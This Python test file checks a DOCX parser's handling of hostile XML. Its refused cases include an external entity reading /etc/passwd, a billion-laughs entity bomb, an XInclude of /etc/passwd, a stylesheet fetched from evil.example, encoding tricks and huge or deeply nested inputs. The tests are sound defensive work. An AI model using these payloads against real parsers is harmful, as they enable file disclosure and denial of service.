"""XML that is in another encoding, declares what it must not, or never ends."""

from __future__ import annotations

from casework.documents.packing import deflated, pack, stored, unpack
from tests.casework.documents.raw_word import para
from tests.hostile.plain import (
    BODY,
    DOCUMENT,
    PACKAGE_RELATIONS,
    PLAIN,
    STYLES,
    TYPES,
    W_TYPE,
    W,
    belonging,
    body,
    changed,
    loose,
    typed,
    with_parts,
)
from tests.hostile.verdicts import let_in, refused

ENCODING = "unusual encoding"
DTD = "document type declaration"
TOO_MANY = "too many paragraphs"
DAMAGED = "damaged part"
ENTITY = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def styles(xml: str | bytes) -> bytes:
    """Return a plain file with this for its styles."""
    return with_parts({STYLES: xml.encode() if isinstance(xml, str) else xml})


@refused(ENCODING, "UTF-8")
def utf_16() -> bytes:
    return styles(PLAIN[STYLES].decode().encode("utf-16"))


@refused(ENCODING)
def utf_16_without_a_mark() -> bytes:
    return styles("<a/>".encode("utf-16-le"))


@refused(ENCODING)
def utf_32() -> bytes:
    return styles("<a/>".encode("utf-32"))


@refused(ENCODING)
def utf_7() -> bytes:
    return styles('<?xml version="1.0" encoding="UTF-7"?><a/>')


@refused(ENCODING)
def utf_7_declared_far_to_the_right() -> bytes:
    return styles(f'<?xml version="1.0"{" " * 5000}encoding="UTF-7"?><a/>')


@refused(ENCODING)
def ebcdic() -> bytes:
    return styles('<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"))


@refused(ENCODING)
def latin_1() -> bytes:
    return styles('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')


@refused(DAMAGED)
def bytes_that_are_no_utf_8() -> bytes:
    return styles(b"<a>\xff\xfe\xfa</a>")


@refused(DTD)
def an_entity_of_the_machine() -> bytes:
    return changed(DOCUMENT, "<w:document", f"{ENTITY}<w:document")


@refused(DTD)
def an_entity_bomb() -> bytes:
    rows = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
    return styles(f'<!DOCTYPE a [<!ENTITY e0 "lol">{rows}]><a>&e8;</a>')


@refused(DTD)
def a_document_type_behind_ten_thousand_spaces() -> bytes:
    return styles(f'<?xml version="1.0"?>{" " * 10_000}<!DOCTYPE a><a/>')


@refused(DTD)
def a_document_type_in_custom_xml() -> bytes:
    return with_parts({"customXml/item1.xml": f"{ENTITY}<a>&x;</a>".encode()})


@refused(DTD)
def a_document_type_in_the_properties() -> bytes:
    return with_parts({"docProps/core.xml": f"{ENTITY}<a/>".encode()})


@refused(DTD)
def a_document_type_in_the_relations() -> bytes:
    return changed(PACKAGE_RELATIONS, "<Relationships", "<!DOCTYPE x><Relationships")


@refused(DTD)
def a_document_type_in_the_content_types() -> bytes:
    return changed(TYPES, "<Types", "<!DOCTYPE x><Types")


@refused(DTD)
def a_document_type_in_an_old_drawing() -> bytes:
    return with_parts({"word/drawings/vmlDrawing1.vml": f"{ENTITY}<xml/>".encode()})


@refused(DTD)
def a_document_type_in_a_part_of_another_name() -> bytes:
    return with_parts({"word/media/image1.png": f'<?xml version="1.0"?>{ENTITY}<a/>'.encode()})


@refused(DTD)
def a_document_type_in_a_part_that_is_xml_by_declaration() -> bytes:
    kind = f"{W_TYPE}.header+xml; charset=utf-8"
    return typed("word/header9.bin", kind, f"{ENTITY}<a/>".encode())


@refused("style sheet instruction")
def custom_xml_with_a_style_sheet() -> bytes:
    sheet = b'<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><a/>'
    return with_parts({"customXml/item1.xml": sheet})


@refused("inclusion")
def custom_xml_that_includes_a_file() -> bytes:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    return with_parts({"customXml/item1.xml": f"<a>{include}</a>".encode()})


@refused(DAMAGED, "repair")
def a_tag_that_is_never_closed() -> bytes:
    return changed(DOCUMENT, "<w:body>", "<w:body><w:p>")


@refused(DAMAGED, "LibreOffice")
def what_libreoffice_writes_of_a_deletion_in_a_control() -> bytes:
    return body(
        '<w:p><w:del w:id="1" w:author="Ann"><w:sdt><w:sdtPr/><w:sdtContent></w:del>'
        "</w:sdtContent></w:sdt></w:p>"
    )


@refused(DAMAGED)
def an_undeclared_prefix() -> bytes:
    return body("<nobody:knows/>")


@refused(DAMAGED)
def words_of_no_xml() -> bytes:
    return styles("styles are not here")


@refused(DAMAGED)
def no_styles_at_all_in_their_part() -> bytes:
    return styles("")


@refused(DAMAGED)
def forty_thousand_levels() -> bytes:
    return body("<w:ins>" * 40_000 + "</w:ins>" * 40_000)


@refused(TOO_MANY, "hand in the response alone")
def three_million_paragraphs() -> bytes:
    return loose(body("<w:p/>" * 3_000_000))


@refused(TOO_MANY)
def twenty_thousand_and_more_paragraphs() -> bytes:
    return loose(body(para("word") * 20_500))


@refused(TOO_MANY)
def a_table_of_half_a_million_cells() -> bytes:
    row = "<w:tr>" + "<w:tc/>" * 1000 + "</w:tr>"
    return loose(body(f"<w:tbl>{row * 550}</w:tbl>"))


@refused(TOO_MANY)
def many_long_parts_of_which_none_is_too_long() -> bytes:
    part = f"<w:hdr {W}>{'<w:r/>' * 90_000}</w:hdr>".encode()
    return with_parts({f"word/header{n}.xml": part for n in range(20)})


@refused(TOO_MANY)
def a_million_attributes() -> bytes:
    return body("".join(f'<w:p a="" b="" c="" d="{n}"/>' for n in range(110_000)))


@refused("too long")
def words_without_end() -> bytes:
    return loose(body(para("word " * 4_500_000)))


@refused("too long")
def one_word_of_twelve_million_letters() -> bytes:
    return loose(body(f"<w:p><w:r><w:t>{'a' * 12_000_000}</w:t></w:r></w:p>"))


@refused(TOO_MANY)
def numbering_without_end() -> bytes:
    lists = "".join(
        f'<w:num w:numId="{n}"><w:abstractNumId w:val="0"/></w:num>' for n in range(120_000)
    )
    return with_parts({"word/numbering.xml": f"<w:numbering {W}>{lists}</w:numbering>".encode()})


@let_in()
def a_hundred_thousand_attributes_on_one_element() -> bytes:
    attributes = " ".join(f'a{n}=""' for n in range(100_000))
    return with_parts({"customXml/x.xml": f"<a {attributes}/>".encode()})


@let_in()
def fifty_thousand_namespaces() -> bytes:
    spaces = " ".join(f'xmlns:a{n}="u:{n}"' for n in range(50_000))
    return with_parts({"customXml/x.xml": f"<a {spaces}/>".encode()})


@let_in()
def sixty_five_thousand_styles_each_based_on_another() -> bytes:
    rows = "".join(f'<w:style w:styleId="S{n}"><w:basedOn w:val="S{n + 1}"/></w:style>'
                   for n in range(65_000))  # fmt: skip
    return styles(f"<w:styles {W}>{rows}</w:styles>")


@let_in("hidden_text")
def words_hidden_by_the_last_of_many_styles() -> bytes:
    rows = "".join(f'<w:style w:styleId="S{n}"><w:basedOn w:val="S{n + 1}"/></w:style>'
                   for n in range(30_000))  # fmt: skip
    sly = '<w:style w:styleId="S30000"><w:rPr><w:vanish/></w:rPr></w:style>'
    words = '<w:p><w:r><w:rPr><w:rStyle w:val="S0"/></w:rPr><w:t>secret</w:t></w:r></w:p>'
    sheet = f"<w:styles {W}>{rows}{sly}</w:styles>".encode()
    return with_parts({STYLES: sheet}, body(words))


@let_in()
def nine_thousand_honest_paragraphs() -> bytes:
    return body(para("The force should improve.") * 9_000)


@let_in("placeholder")
def brackets_without_end() -> bytes:
    return body(para("[to be " * 100_000) + para("[" + "_" * 300_000))


@let_in("tracked_change")
def a_hundred_thousand_changes() -> bytes:
    return loose(body(f"<w:p>{'<w:ins><w:r/></w:ins>' * 100_000}</w:p>"))


@let_in("tracked_change")
def changes_inside_changes() -> bytes:
    deep = "<w:ins>" * 200 + "<w:r/>" * 200_000 + "</w:ins>" * 200
    return loose(body(f"<w:p>{deep}</w:p>"))


@let_in("placeholder")
def controls_inside_controls() -> bytes:
    prompt = "<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>"
    words = "<w:r><w:t>x</w:t></w:r>" * 60_000
    return loose(body(f"<w:p>{prompt * 80}{words}{'</w:sdtContent></w:sdt>' * 80}</w:p>"))


@let_in()
def paragraphs_inside_paragraphs() -> bytes:
    words = "<w:r><w:t>a</w:t></w:r>" * 60_000
    return loose(body("<w:p>" * 200 + words + "</w:p>" * 200))


@let_in()
def a_field_in_a_hundred_thousand_pieces() -> bytes:
    runs = "<w:r><w:instrText>PAGE</w:instrText></w:r>" * 100_000
    return loose(body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'))


@let_in()
def nine_megabytes_in_one_word() -> bytes:
    return loose(body(f"<w:p><w:r><w:t>{'word ' * 1_800_000}</w:t></w:r></w:p>"))


@let_in()
def a_file_at_every_limit() -> bytes:
    runs = "".join(
        f'<w:r w:x="{n:x}"><w:t>a long word and more of it {n * n:x}</w:t></w:r>'
        for n in range(90_000)
    )
    text = unpack(body(f"<w:p>{runs}</w:p>")).items()
    pattern = bytes(n * n * n >> 7 & 255 for n in range(1 << 14))
    drawing = deflated(pattern * 700, 1)
    pictures = [(f"word/media/image{n}.bmp", drawing) for n in range(10)]
    photograph = ("word/media/image10.jpeg", stored(pattern * 1_300))
    return pack([*((name, deflated(part)) for name, part in text), *pictures, photograph])


@let_in()
def a_mark_of_byte_order_in_every_part() -> bytes:
    return with_parts({name: b"\xef\xbb\xbf" + part for name, part in PLAIN.items()})


@let_in()
def no_declaration_and_a_declaration_in_small_letters() -> bytes:
    text = b'<?xml version="1.0" encoding="utf-8"?>\r\n' + PLAIN[DOCUMENT]
    return with_parts({DOCUMENT: text})


@let_in()
def another_prefix_for_words_own_names() -> bytes:
    text = f"<w:document {W}><w:body>{BODY}</w:body></w:document>"
    plain = text.replace("w:", "ns0:").replace("xmlns:ns0:", "xmlns:ns0")
    return with_parts({DOCUMENT: plain.replace("xmlns:w=", "xmlns:ns0=").encode()})


@let_in()
def comments_and_instructions_in_the_xml() -> bytes:
    return body("<!-- made by hand --><?editor kept?>")


@let_in("metadata")
def an_empty_part_of_another_system() -> bytes:
    return belonging("customXml/item1.xml", "application/xml", "customXml", "")
